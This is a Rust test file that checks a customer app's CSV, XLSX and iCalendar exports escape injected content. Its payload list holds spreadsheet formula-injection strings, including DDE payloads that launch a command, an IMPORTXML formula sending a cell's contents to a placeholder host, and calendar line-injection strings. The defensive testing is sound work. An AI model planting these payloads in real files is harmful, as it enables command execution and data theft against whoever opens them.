//! Whatever leaves as a file is opened by a spreadsheet or a calendar: nothing in it is calculated, and nothing somebody
//! typed becomes a line of its own (SECURITY.md).

use super::imports::upload;
use crate::administration::post;
use crate::branch::{Branch, Tablet, send};
use axum::http::Method;
use domain::api::{ExportCustomers, ExportForm, Import, path};
use domain::customer::Customer;
use domain::icalendar::{Calendar, Event, write};
use domain::ids::CustomerId;
use domain::time::Timestamp;
use serde_json::Value;
use std::collections::BTreeSet;
use std::path::Path;

/// A cell as somebody may have typed it. A spreadsheet calculates from the first eight signs.
const PAYLOADS: &[&str] = &[
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    " =1+1",
    "\u{3000}=1+1",
    "\u{a0}+1",
    "\u{200b}=1+1",
    "\"=1+1",
    "\"\"=1+1\"",
    "“=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x\",\"甲\")",
    "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "-2+3+cmd|' /C calc'!A0",
    "%0A=1+1",
    ";=1+1",
    "甲\r\n=1+1",
    "甲\",\"=1+1",
];

/// What is calculated, by a rule written anew here.
fn is_calculated(cell: &str) -> bool {
    let is_padding = |c: char| c.is_whitespace() || "\"“”＂\u{200b}\u{feff}".contains(c);
    cell.trim_start_matches(is_padding).starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
        || cell.starts_with(['\t', '\r', '\n'])
}

/// Refused for the manager nobody has, whatever the name.
fn rows() -> Vec<[String; 3]> {
    let header = ["客户编号", "客户名称", "管户经理工号"].map(str::to_owned);
    let payloads = PAYLOADS
        .iter()
        .zip(1..)
        .map(|(payload, no)| [format!("P{no}"), (*payload).to_owned(), "9999".to_owned()]);
    std::iter::once(header).chain(payloads).collect()
}

fn delimited(delimiter: u8) -> String {
    let mut writer = csv::WriterBuilder::new().delimiter(delimiter).from_writer(Vec::new());
    rows().iter().for_each(|row| writer.write_record(row).unwrap());
    String::from_utf8(writer.into_inner().unwrap()).unwrap()
}

fn workbook() -> Vec<u8> {
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    for (row, cells) in (0..).zip(rows()) {
        for (column, cell) in (0..).zip(cells) {
            sheet.write_string(row, column, cell).unwrap();
        }
    }
    workbook.save_to_buffer().unwrap()
}

/// Cells of a file that came back, read by nothing of ours.
fn cells(name: &str, bytes: &[u8]) -> Vec<String> {
    if name.ends_with(".xlsx") {
        use calamine::Reader;
        let mut book = calamine::Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
        let range = book.worksheet_range_at(0).unwrap().unwrap();
        assert!(book.worksheet_formula("Sheet1").unwrap().is_empty(), "formulas in {name}");
        return range.used_cells().map(|(_, _, cell)| cell.to_string()).collect();
    }
    let (text, _, is_wrong) = match name {
        "gb18030.csv" => encoding_rs::GB18030.decode(bytes),
        _ => encoding_rs::UTF_8.decode(bytes),
    };
    assert!(!is_wrong);
    let delimiter = if name == "tabs.csv" { b'\t' } else { b',' };
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(delimiter)
        .from_reader(text.as_bytes());
    reader
        .records()
        .flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

async fn refused_rows(branch: &Branch, desk: &Tablet) {
    let gb18030 =
        encoding_rs::GB18030.encode(&delimited(b',').replace(['\u{a0}', '\u{200b}'], " ")).0.into_owned();
    let utf16 = format!("\u{feff}{}", delimited(b',')).encode_utf16().flat_map(u16::to_le_bytes).collect();
    for (name, file) in [
        ("plain.csv", delimited(b',').into_bytes()),
        ("tabs.csv", delimited(b'\t').into_bytes()),
        ("gb18030.csv", gb18030),
        ("utf16.csv", utf16),
        ("book.xlsx", workbook()),
    ] {
        let import: Import = upload(branch, desk, name, &file).await.json();
        let answer = desk.send::<()>(Method::POST, &path::of(path::IMPORT_REFUSED, import.id), None).await;
        let cells = cells(name, &answer.body);
        assert!(cells.len() >= PAYLOADS.len() * 3, "{name}: {cells:?}");
        for cell in &cells {
            assert!(!is_calculated(cell), "{name}: {cell:?}");
        }
        for payload in PAYLOADS
            .iter()
            .filter(|payload| is_calculated(payload) && !payload.contains(['\u{a0}', '\u{200b}', '\r', '\n']))
        {
            assert!(cells.contains(&format!("'{payload}")), "{name}: {payload:?} is not kept: {cells:?}");
        }
    }
}

/// Customers as a lead takes them out, with a payload in each text.
async fn customers(branch: &Branch) {
    let mut lead = branch.sign_in("2001").await;
    lead.pull(5_000).await;
    let ids: Vec<CustomerId> =
        lead.all::<Customer>().map(|customer| customer.id).take(PAYLOADS.len()).collect();
    for (id, payload) in ids.iter().zip(PAYLOADS) {
        let written = sqlx::query("update customer set name = $2, address = $2, industry = $2 where id = $1");
        written.bind(id.0).bind(*payload).execute(&branch.pool).await.unwrap();
    }
    for form in [ExportForm::Csv, ExportForm::Xlsx] {
        let asked = ExportCustomers { customers: ids.clone(), form };
        let answer = post(&lead, path::CUSTOMERS_EXPORT, &asked).await;
        let cells = cells(&format!("customers.{}", form.extension()), &answer.body);
        for cell in &cells {
            assert!(!is_calculated(cell), "{form:?}: {cell:?}");
        }
        for payload in
            PAYLOADS.iter().filter(|payload| is_calculated(payload) && !payload.contains(['\r', '\n']))
        {
            let kept = cells.iter().filter(|cell| **cell == format!("'{payload}")).count();
            assert_eq!(kept, 3, "{form:?}: {payload:?}");
        }
    }
}

fn calendar() {
    let event = |payload: &str| Event {
        uid: "1".to_owned(),
        stamp: Timestamp(0),
        on: "2026-11-20".parse().unwrap(),
        at_minute: Some(540),
        minutes: 30,
        summary: payload.to_owned(),
        location: Some(payload.to_owned()),
        description: Some(payload.to_owned()),
        is_cancelled: false,
        sequence: 1,
    };
    for payload in PAYLOADS.iter().chain(&[
        "甲\r\nATTENDEE:mailto:x@y",
        "甲\u{b}\u{c}END:VEVENT",
        "甲\u{85}END:VEVENT",
        "甲\nBEGIN:VALARM",
    ]) {
        let plain = write(&Calendar { name: "甲".to_owned(), events: vec![event("甲")] });
        let file = write(&Calendar { name: (*payload).to_owned(), events: vec![event(payload)] });
        let names = |file: &str| -> Vec<String> {
            let unfolded = file.replace("\r\n ", "");
            unfolded.split("\r\n").map(|line| line.split([':', ';']).next().unwrap().to_owned()).collect()
        };
        assert_eq!(names(&file), names(&plain), "{payload:?} made a line of its own");
        assert!(!file.replace("\r\n", "").contains(['\r', '\n']), "{payload:?}");
    }
}

/// Media types that no person opens as a file.
const NO_FILES: [&str; 3] = ["application/json", "image/jpeg", "text/event-stream"];

#[tokio::test]
async fn nothing_in_an_exported_file_is_calculated() {
    let branch = Branch::open().await;
    let desk = branch.sign_in("3001").await;
    let document: Value = send::<()>(&branch.router, Method::GET, path::OPENAPI, &[], None).await.json();
    let mut exports = 0;
    for (route, methods) in document["paths"].as_object().unwrap() {
        for (method, operation) in methods.as_object().unwrap() {
            let answers = operation["responses"].as_object().unwrap().values();
            let media: Vec<&String> = answers
                .filter_map(|answer| answer["content"].as_object())
                .flat_map(|content| content.keys())
                .collect();
            if media.iter().all(|media| {
                NO_FILES.contains(&media.as_str()) || media.starts_with(domain::wire::PAGE_MEDIA_TYPE)
            }) {
                continue;
            }
            match (method.as_str(), route.as_str()) {
                ("post", path::IMPORT_REFUSED) => refused_rows(&branch, &desk).await,
                ("post", path::CUSTOMERS_EXPORT) => customers(&branch).await,
                _ => panic!("{method} {route} gives a file and has no case"),
            }
            exports += 1;
        }
    }
    assert_eq!(exports, 2);
    let logged =
        "select count(distinct act) from audit_log where act in ('export_refused', 'export_customers')";
    assert_eq!(branch.count(logged).await, 2);
    calendar();
    branch.close().await;
}

/// The app writes files in two places; each has its case above.
#[test]
fn the_app_writes_no_other_file() {
    fn written(folder: &Path, found: &mut BTreeSet<String>) {
        for entry in std::fs::read_dir(folder).unwrap() {
            let file = entry.unwrap().path();
            if file.is_dir() {
                written(&file, found);
            } else if !file.components().any(|part| part.as_os_str() == "browser") {
                let source = std::fs::read_to_string(&file).unwrap();
                if ["save_as(", "::download("].iter().any(|call| source.contains(call)) {
                    found.insert(file.file_name().unwrap().to_string_lossy().into_owned());
                }
            }
        }
    }
    let mut found = BTreeSet::new();
    written(&Path::new(env!("CARGO_MANIFEST_DIR")).join("../app/src"), &mut found);
    assert_eq!(found, BTreeSet::from(["export.rs".to_owned(), "refused.rs".to_owned()]));
}
